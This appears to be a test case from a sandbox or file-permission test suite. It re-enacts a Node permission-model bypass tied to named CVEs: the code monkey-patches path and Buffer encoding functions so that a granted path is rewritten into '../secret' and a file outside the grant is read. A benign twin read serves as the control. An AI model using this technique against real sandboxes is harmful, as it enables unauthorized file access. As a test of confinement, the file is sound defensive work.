// Route: Replaces the functions that checks of paths use, `path.resolve` and methods of Buffer, before a file is read.
// Known from: CVE-2023-39331, CVE-2024-21891 and CVE-2024-21896 (Node permission model)
// Refused: ENOTCAPABLE
// Twin: reads a granted file while they are replaced
// Unconfined: works
import path from 'node:path';

const text = Buffer.prototype.utf8Write;
function replace() {
  path.resolve = path.normalize = path.join = () => 'file';
  Buffer.prototype.utf8Write = function (value, ...rest) {
    return text.call(this, value.replace('innocent', '../secret'), ...rest);
  };
  Buffer.from = (
    (from) =>
    (value, ...rest) =>
      from.call(Buffer, typeof value === 'string' ? value.replace('innocent', '../secret') : value, ...rest)
  )(Buffer.from);
  TextEncoder.prototype.encodeInto = ((encode) =>
    function (value, into) {
      return encode.call(this, value.replace('innocent', '../secret'), into);
    })(TextEncoder.prototype.encodeInto);
}
export const attempt = async ({ work }) => {
  replace();
  await work.read('innocent/file').catch(() => work.read('../secret/file'));
};
export const twin = async ({ readable }) => {
  replace();
  await readable.read('file');
};
